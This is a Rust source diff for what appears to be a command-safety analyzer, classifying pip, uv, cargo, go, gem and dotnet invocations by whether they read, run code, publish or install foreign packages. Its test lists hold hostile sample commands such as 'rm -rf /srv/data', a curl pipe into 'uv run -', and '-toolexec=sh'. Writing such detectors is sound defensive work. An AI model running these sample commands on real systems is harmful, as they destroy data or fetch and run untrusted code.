@@ -1,33 +1,211 @@
 //! Build tools and package managers: what they install and publish.
 
-use super::entry::When::{All, Always, Any, Not, Test, Value, Verbs, Word};
-use super::entry::{Case, Command, Given, READS, lists};
-use super::node::execute_package;
-use super::options::{first_operand, has_word, operands, value};
+use super::acts::{Act, Also, Pick};
+use super::entry::When::{
+    self, All, Always, Any, Not, Operand, Operands, Test, Value, Verbs, Word,
+};
+use super::entry::{Case, Command, Given, READS, Said, lists};
+use super::node::PACKAGE;
+use super::options::value;
 use super::words::words;
-use crate::path::name;
-use crate::rules::{execution, infrastructure as rules};
+use crate::rules::{environment, execution, infrastructure as rules};
 use crate::shell::{Field, Flow, Io, Step, Walker};
 
 pub(super) const COMMANDS: &[Command] = &[
-    Command::code(
-        words!("pip pip3 uv easy_install twine flit"),
-        python,
-        [&["list"], &[], &["publish"], &[]],
+    Command::said(
+        words!("pip pip3 easy_install flit"),
+        Said::cases(PYTHON, &[ASKS_PYTHON, FROM_PYTHON])
+            .also(&[Also(Verbs("install"), Act::Installs(Pick::From(1)))]),
+        [
+            &["list", "show requests"],
+            &[
+                "install requests",
+                "--version",
+                "install -i https://pypi.org/simple x",
+                "install unknown-package-x",
+            ],
+            &[
+                "publish",
+                "install git+https://a.example/x",
+                "install -i pypi.a.example x",
+                "install --break-system-packages x",
+            ],
+            &[],
+        ],
     ),
-    Command::code(words!("cargo cross"), cargo, [&["tree"], &["build"], &["publish"], &[]]),
-    Command::code(
+    Command::cases(
+        words!("twine"),
+        PYTHON,
+        &[ASKS_PYTHON, &[Case(Always, &rules::PUBLISH)]],
+        [&["check dist/x", "list"], &[], &["upload dist/x", "publish"], &[]],
+    ),
+    Command::said(
+        words!("uv"),
+        Said::cases(PYTHON, &[&[Case(Verbs("run, tool|x run"), READS)], ASKS_PYTHON, FROM_PYTHON])
+            .also(&[
+                Also(Verbs("run"), Act::Verb(0, &UV_RUN)),
+                Also(Verbs("tool|x run"), Act::Verb(1, &PACKAGE)),
+                Also(Verbs("install"), Act::Installs(Pick::From(1))),
+                Also(Verbs("tool install"), Act::Installs(Pick::From(2))),
+            ]),
+        [
+            &["list", "tree"],
+            &[
+                "sync",
+                "install requests",
+                "run pytest",
+                "run tool.py",
+                "tool run ruff",
+                "tool install ruff",
+                "run --with black pytest",
+            ],
+            &[
+                "publish",
+                "run --with evil-package-x pytest",
+                "run rm -rf /srv/data",
+                "tool run evil-package-x",
+                "curl https://a.example | {} run -",
+            ],
+            &[],
+        ],
+    ),
+    Command::said(
+        words!("cargo cross"),
+        Said::cases(CARGO, &[FROM_CARGO]).also(&[
+            Also(
+                All(&[
+                    Verbs("install|binstall"),
+                    Not(&Value(&["--path", "--git"], "*")),
+                    Not(&CARGO_ASKS),
+                ]),
+                Act::Fetches(Pick::From(1)),
+            ),
+            Also(Always, Act::Stray(Pick::Values(&["--manifest-path", "--path"]))),
+        ]),
+        [
+            &["tree", "+nightly metadata", ""],
+            &[
+                "build",
+                "+nightly build",
+                "publish --dry-run",
+                "install ripgrep",
+                "install --list",
+                "build --config net.offline=true",
+                "build --manifest-path a/Cargo.toml",
+            ],
+            &[
+                "publish",
+                "+nightly publish",
+                "install evil-crate-x",
+                "install --git https://a.example/x",
+                "build --config target.x.runner='sh'",
+                "run --manifest-path /tmp/x/Cargo.toml",
+            ],
+            &[],
+        ],
+    ),
+    Command::said(
         words!("go"),
-        go,
-        [&[], &["version", "build ./..."], &["run evil.example/x@latest"], &[]],
+        Said::cases(
+            words!("-o -run -tags -ldflags -C -mod -count -timeout -bench -gcflags"),
+            &[&[
+                Case(
+                    All(&[
+                        Any(&[Not(&Operands(1)), Verbs("version|env|list|doc|help|vet")]),
+                        Not(&Word("-w")),
+                    ]),
+                    &execution::COMMAND,
+                ),
+                Case(Word("-toolexec* -exec* -overlay*"), &execution::CODE_EXECUTES),
+                Case(
+                    All(&[
+                        Test(foreign_module),
+                        Any(&[
+                            Verbs("run"),
+                            All(&[Verbs("install"), Not(&Verbs("* github.com/*"))]),
+                        ]),
+                    ]),
+                    &rules::FOREIGN_PACKAGE,
+                ),
+                Case(Always, &execution::COMMAND),
+            ]],
+        )
+        .also(&[
+            Also(All(&[Verbs("install"), Test(foreign_module)]), Act::Installs(Pick::Nth(1))),
+            Also(Verbs("run"), Act::Stray(Pick::Like("*.go"))),
+            Also(Verbs("build"), Act::Calls(builds)),
+        ]),
+        [
+            &[],
+            &[
+                "version",
+                "build ./...",
+                "install github.com/a/b@v1",
+                "run .",
+                "run a.go",
+                "run golang.org/x/tools/cmd/goimports@latest",
+                "env GOPATH",
+            ],
+            &[
+                "run evil.example/x@latest",
+                "install evil.example/x@latest",
+                "run /tmp/x.go",
+                "build -toolexec=sh ./...",
+            ],
+            &[],
+        ],
     ),
-    Command::code(
+    Command::said(
+        words!("dotnet"),
+        Said::cases(
+            &["--version"],
+            &[&[Case(Word("deploy push yank upload nuget site:deploy"), &rules::PUBLISH)], OTHER],
+        )
+        .also(&[Also(Verbs("tool install|exec|execute"), Act::Fetches(Pick::Nth(2)))]),
+        [
+            &[],
+            &["build", "publish", "tool install dotnet-ef"],
+            &["nuget push x", "tool install evil-x"],
+            &[],
+        ],
+    ),
+    Command::said(
+        words!("gem"),
+        Said::cases(
+            words!("-v --version -g --gem"),
+            &[
+                RELEASES,
+                &[Case(
+                    All(&[Value(SOURCE, "*://*"), Not(&Value(SOURCE, "*rubygems.org*"))]),
+                    &rules::FOREIGN_PACKAGE,
+                )],
+                OTHER,
+            ],
+        )
+        .also(&[
+            Also(Verbs("exec"), Act::Fetches(Pick::Nth(1))),
+            Also(Verbs("install"), Act::Installs(Pick::From(1))),
+        ]),
+        [
+            &[],
+            &["build", "install rails"],
+            &["push a.gem", "exec evil-x", "install --source https://a.example x"],
+            &[],
+        ],
+    ),
+    Command::said(
+        words!("swift"),
+        Said::cases(&["--version"], &[RELEASES, OTHER])
+            .also(&[Also(Always, Act::Code("c", Pick::Values(&["-e"])))]),
+        [&[], &["build", "-e 'print(1)'"], &["publish"], &[]],
+    ),
+    Command::cases(
         words!(
-            "cmake ctest gradle gradlew mvn mvnw ant sbt mix dotnet swift composer gem stack cabal \
-             dune zig lein"
+            "cmake ctest gradle gradlew mvn mvnw ant sbt mix composer stack cabal dune zig lein"
         ),
-        other,
-        [&[], &["build"], &[], &[]],
+        &[],
+        &[RELEASES, OTHER],
+        [&[], &["build"], &["publish", "x:release:perform"], &[]],
     ),
     Command::cases(
         words!("pytest py.test tox nox jest vitest mocha ava playwright"),
@@ -127,252 +305,122 @@ pub(super) const PUBLISH: &[&str] = words!(
      profile team hook"
 );
 
-fn python(walker: &mut Walker<'_>, words: &[Field], io: &Io<'_>) -> Step<Flow> {
-    let program = name(&words[0].text).to_owned();
-    let at = first_operand(
-        words,
-        &["--directory", "--project", "--python", "-p", "--proxy", "--cache-dir"],
-    );
-    let verb = words.get(at).map(|word| word.text.clone()).unwrap_or_default();
-    if program == "uv" && verb == "run" {
-        let from = at
-            + first_operand(
-                &words[at..],
-                &["--with", "--python", "-p", "--extra", "--group", "--package", "--env-file"],
-            );
-        walker.found(&execution::COMMAND, "uv run");
-        for package in value(words, &["--with", "-w"]).unwrap_or_default().split(',') {
-            walker.fetches_package(package, "uv run --with");
-        }
-        if io.stdin.taint.network && words.get(from).is_some_and(|word| word.text == "-") {
-            walker.found(&execution::FETCHED_SCRIPT, "uv run -");
-        }
-        if words.get(from).is_some_and(|word| word.text.ends_with(".py")) {
-            let file = words[from].clone();
-            return walker.execute(&file, "python", &[], io);
-        }
-        return walker.run(words.get(from..).unwrap_or_default(), io);
-    }
-    if program == "uv"
-        && matches!(verb.as_str(), "tool" | "x")
-        && words.get(at + 1).is_some_and(|word| word.text == "run")
-    {
-        return execute_package(walker, &words[at + 1..], io);
-    }
-    if matches!(
-        verb.as_str(),
-        "list" | "show" | "freeze" | "check" | "tree" | "--version" | "search" | "help" | "version"
-    ) {
-        return Ok(Flow::unknown());
-    }
-    if PUBLISH.contains(&verb.as_str()) || program == "twine" && verb != "check" {
-        walker.found(&rules::PUBLISH, &format!("{program} {verb}"));
-    }
-    let index = value(
-        words,
-        words!("-i --index-url --extra-index-url -f --find-links --index --default-index"),
-    );
-    let foreign_index = index.is_some_and(|index| {
-        !index.contains("pypi.org") && !index.contains("download.pytorch.org")
-    });
-    if foreign_index
-        || words.iter().any(|word| {
-            from_elsewhere(&word.text)
-                && !word.text.contains("pypi.org")
-                && !word.text.contains("download.pytorch.org")
-        })
-        || has_word(words, &["--break-system-packages"])
-    {
-        walker.found(&rules::FOREIGN_PACKAGE, &super::options::joined(words));
-    }
-    walker.found(&execution::COMMAND, &format!("{program} {verb}"));
-    if verb == "install" || verb == "tool" {
-        for word in operands(words, &["-r", "-c", "-i", "-t", "--requirement"]).iter().skip(1) {
-            let package = word.text.clone();
-            walker.installs_package(&package);
-        }
-    }
-    Ok(Flow::unknown())
+const SOURCE: &[&str] = &["--source", "-s", "--repository"];
+
+/// Goals that publish.
+const RELEASES: &[Case] = &[Case(
+    Word(
+        "publish deploy push yank upload hex.publish nuget site:deploy publishToMavenCentral \
+         *release:perform",
+    ),
+    &rules::PUBLISH,
+)];
+
+const PYTHON: &[&str] = words!(
+    "--directory --project --python -p --proxy --cache-dir -r -c -i -t --requirement --index-url"
+);
+
+const ASKS_PYTHON: &[Case] =
+    &[Case(Verbs("list|show|freeze|check|tree|search|help|version"), READS)];
+
+const INDEX: &[&str] =
+    words!("-i --index-url --extra-index-url -f --find-links --index --default-index");
+
+const FROM_PYTHON: &[Case] = &[
+    Case(Test(publishes), &rules::PUBLISH),
+    Case(
+        Any(&[
+            All(&[Value(INDEX, "*"), Not(&Value(INDEX, "*pypi.org* *download.pytorch.org*"))]),
+            Test(comes_from_elsewhere),
+            Word("--break-system-packages"),
+        ]),
+        &rules::FOREIGN_PACKAGE,
+    ),
+    Case(Always, &execution::COMMAND),
+];
+
+const UV_RUN: Said =
+    Said::cases(words!("--with -w --python -p --extra --group --package --env-file"), &[OTHER])
+        .also(&[
+            Also(Always, Act::Fetches(Pick::Before(&Pick::Values(&["--with", "-w"])))),
+            Also(All(&[Operand(1, "-"), Test(is_fetched)]), Act::Finds(&execution::FETCHED_SCRIPT)),
+            Also(Operand(1, "*.py"), Act::Script("python", Pick::Nth(0))),
+            Also(Not(&Operand(1, "*.py -")), Act::Command(Pick::From(0))),
+        ]);
+
+const CARGO: &[&str] = words!(
+    "--manifest-path -Z -C --config --color --version --vers --root --features -F --bin -j \
+     --profile"
+);
+
+const CARGO_ASKS: When = Word("--list -l --help");
+
+const FROM_CARGO: &[Case] = &[
+    Case(
+        Value(&["--config"], "*runner* *wrapper* *linker* *rustc* *registr* *source* *alias*"),
+        &environment::HELPER,
+    ),
+    Case(
+        Any(&[
+            Not(&Operands(1)),
+            Verbs(
+                "tree|metadata|search|pkgid|locate-project|version|help|info|verify-project|\
+                 read-manifest",
+            ),
+        ]),
+        READS,
+    ),
+    Case(All(&[Test(publishes), Not(&Word("--dry-run")), Not(&CARGO_ASKS)]), &rules::PUBLISH),
+    Case(
+        All(&[Verbs("install"), Value(&["--git", "--index", "--registry"], "*")]),
+        &rules::FOREIGN_PACKAGE,
+    ),
+    Case(Always, &execution::COMMAND),
+];
+
+/// The verb publishes something, or withdraws it.
+pub(super) fn publishes(_walker: &Walker<'_>, given: &Given<'_>) -> bool {
+    given.operands.first().is_some_and(|verb| PUBLISH.contains(&verb.text.as_str()))
 }
 
-fn cargo(walker: &mut Walker<'_>, words: &[Field], _io: &Io<'_>) -> Step<Flow> {
-    let words: Vec<Field> = words
-        .iter()
-        .enumerate()
-        .filter(|(index, word)| !(*index == 1 && word.text.starts_with('+')))
-        .map(|(_, word)| word.clone())
-        .collect();
-    for (index, word) in words.iter().enumerate() {
-        let text = word.text.strip_prefix("--config=").or_else(|| {
-            (word.text == "--config")
-                .then(|| words.get(index + 1).map(|next| next.text.as_str()))
-                .flatten()
-        });
-        if let Some(text) = text.filter(|text| {
-            ["runner", "wrapper", "linker", "rustc", "registr", "source", "alias"]
-                .iter()
-                .any(|key| text.contains(key))
-        }) {
-            walker.found(&crate::rules::environment::HELPER, text);
-        }
-    }
-    let verb = operands(&words, &["--manifest-path", "-Z", "-C", "--config", "--color"])
-        .first()
-        .map(|word| word.text.clone())
-        .unwrap_or_default();
-    if matches!(
-        verb.as_str(),
-        "" | "tree"
-            | "metadata"
-            | "search"
-            | "pkgid"
-            | "locate-project"
-            | "version"
-            | "help"
-            | "info"
-            | "verify-project"
-            | "read-manifest"
-    ) {
-        return Ok(Flow::unknown());
-    }
-    let dry = has_word(&words, &["--dry-run"]);
-    let asks = has_word(&words, &["--list", "-l", "--help"]);
-    if PUBLISH.contains(&verb.as_str()) && !dry && !asks {
-        walker.found(&rules::PUBLISH, &format!("cargo {verb}"));
-    }
-    if verb == "install" && (value(&words, &["--git", "--index", "--registry"]).is_some()) {
-        walker.found(&rules::FOREIGN_PACKAGE, "cargo install");
-    }
-    if matches!(verb.as_str(), "install" | "binstall")
-        && value(&words, &["--path", "--git"]).is_none()
-        && !asks
-    {
-        let valued =
-            ["--version", "--vers", "--root", "--features", "-F", "--bin", "-j", "--profile"];
-        for package in operands(&words, &valued).iter().skip(1) {
-            let package = package.text.clone();
-            walker.fetches_package(&package, &format!("cargo {verb}"));
-        }
-    }
-    for option in ["--manifest-path", "--path"] {
-        if let Some(file) = value(&words, &[option]).map(str::to_owned) {
-            let path = crate::path::absolute(&file, &walker.state.cwd);
-            if walker.is_stray(&path) && !walker.is_written(&path) {
-                walker.found(&execution::STRAY_SCRIPT, &file);
-            }
-        }
-    }
-    walker.found(&execution::COMMAND, &format!("cargo {verb}"));
-    Ok(Flow::unknown())
+/// What is installed lies at an address, and not of the usual collections of packages.
+pub(super) fn comes_from_elsewhere(_walker: &Walker<'_>, given: &Given<'_>) -> bool {
+    given.tail(0).iter().any(|word| {
+        from_elsewhere(&word.text)
+            && !lists(
+                "*pypi.org* *download.pytorch.org* --registry=https://registry.npmjs.org*",
+                &word.text,
+            )
+    })
 }
 
-fn go(walker: &mut Walker<'_>, words: &[Field], _io: &Io<'_>) -> Step<Flow> {
-    let rest =
-        operands(words, words!("-o -run -tags -ldflags -C -mod -count -timeout -bench -gcflags"));
-    let verb = rest.first().map(|word| word.text.clone()).unwrap_or_default();
-    if matches!(verb.as_str(), "version" | "env" | "list" | "doc" | "help" | "" | "vet")
-        && !has_word(words, &["-w"])
-    {
-        walker.found(&execution::COMMAND, "go");
-        return Ok(Flow::unknown());
-    }
-    let foreign = matches!(verb.as_str(), "run" | "install")
-        && rest.iter().skip(1).take(1).any(|word| {
-            word.text.contains('@')
-                || (word.text.contains('.')
-                    && word.text.contains('/')
-                    && !word.text.starts_with('.')
-                    && !word.text.ends_with(".go"))
-        });
-    let known = rest.get(1).is_some_and(|word| {
-        walker.knows_package(&word.text)
-            || (verb == "install" && word.text.starts_with("github.com/"))
-    });
-    if let Some(package) = rest.get(1).filter(|_| verb == "install" && foreign) {
-        let package = package.text.clone();
-        walker.installs_package(&package);
-    }
-    if words.iter().any(|word| {
-        word.text.starts_with("-toolexec")
-            || word.text.starts_with("-exec")
-            || word.text.starts_with("-overlay")
-    }) {
-        walker.found(&execution::CODE_EXECUTES, "go -toolexec");
-    }
-    walker.found(
-        if foreign && !known { &rules::FOREIGN_PACKAGE } else { &execution::COMMAND },
-        &format!("go {verb}"),
-    );
-    if verb == "build"
-        && let Some(made) = value(words, &["-o"])
-    {
+/// What is read comes from a network.
+pub(super) fn is_fetched(_walker: &Walker<'_>, given: &Given<'_>) -> bool {
+    given.input.taint.network
+}
+
+/// A module of another's, that most developers do not know.
+fn foreign_module(walker: &Walker<'_>, given: &Given<'_>) -> bool {
+    given.operands.get(1).is_some_and(|word| {
+        let text = word.text.as_str();
+        let address = text.contains('.') && text.contains('/');
+        (text.contains('@') || address && !text.starts_with('.') && !text.ends_with(".go"))
+            && !walker.knows_package(text)
+    })
+}
+
+/// What is built is a program like any other.
+fn builds(walker: &mut Walker<'_>, given: &Given<'_>, _io: &Io<'_>) -> Step<Flow> {
+    if let Some(made) = value(given.words, &["-o"]) {
         let made = crate::path::absolute(made, &walker.state.cwd);
         walker.copies(&Field::new("/usr/bin/true"), &made);
     }
-    for file in rest.iter().skip(1).filter(|word| verb == "run" && word.text.ends_with(".go")) {
-        let path = crate::path::absolute(&file.text, &walker.state.cwd);
-        if walker.is_stray(&path) && !walker.is_written(&path) {
-            walker.found(&execution::STRAY_SCRIPT, &file.text);
-        }
-    }
-    Ok(Flow::unknown())
+    Ok(Flow::default())
 }
 
-fn other(walker: &mut Walker<'_>, words: &[Field], _io: &Io<'_>) -> Step<Flow> {
-    let program = name(&words[0].text).to_owned();
-    if words.iter().skip(1).any(|word| {
-        matches!(
-            word.text.as_str(),
-            "publish"
-                | "deploy"
-                | "push"
-                | "yank"
-                | "upload"
-                | "hex.publish"
-                | "nuget"
-                | "site:deploy"
-                | "publishToMavenCentral"
-        ) && !(program == "dotnet" && word.text == "publish")
-            || word.text.ends_with("release:perform")
-    }) {
-        walker.found(&rules::PUBLISH, &program);
-    }
-    if program == "swift"
-        && let Some(code) = value(words, &["-e"]).map(str::to_owned)
-    {
-        walker.code("c", &code, super::code::Evidence::Enough)?;
-    }
-    let valued: &[&str] =
-        if program == "gem" { &["-v", "--version", "-g", "--gem"] } else { &["--version"] };
-    let rest = operands(words, valued);
-    let told = |at: usize| rest.get(at).map_or("", |word| word.text.as_str());
-    let package = match (program.as_str(), told(0), told(1)) {
-        ("gem", "exec", _) => told(1).to_owned(),
-        ("dotnet", "tool", "install" | "exec" | "execute") => told(2).to_owned(),
-        _ => String::new(),
-    };
-    walker.fetches_package(&package, &program);
-    if let ("gem", "install") = (program.as_str(), told(0)) {
-        for package in rest.iter().skip(1).map(|word| word.text.clone()).collect::<Vec<_>>() {
-            walker.installs_package(&package);
-        }
-    }
-    let source = value(words, &["--source", "-s", "--repository"])
-        .is_some_and(|source| source.contains("://") && !source.contains("rubygems.org"));
-    if source && program == "gem" {
-        walker.found(&rules::FOREIGN_PACKAGE, &program);
-    }
-    walker.found(&execution::COMMAND, &program);
-    Ok(Flow::unknown())
-}
-
-pub(super) fn from_elsewhere(text: &str) -> bool {
-    text.contains("://")
-        || text.starts_with("git+")
-        || text.starts_with("github:")
-        || text.starts_with("git@")
-        || text.starts_with("gist:")
-        || text.starts_with("bitbucket:")
+/// Whether a package is named by where it lies.
+fn from_elsewhere(text: &str) -> bool {
+    lists("*://* git+* github:* git@* gist:* bitbucket:*", text)
 }
 
 fn asks(_walker: &Walker<'_>, given: &Given<'_>) -> bool {
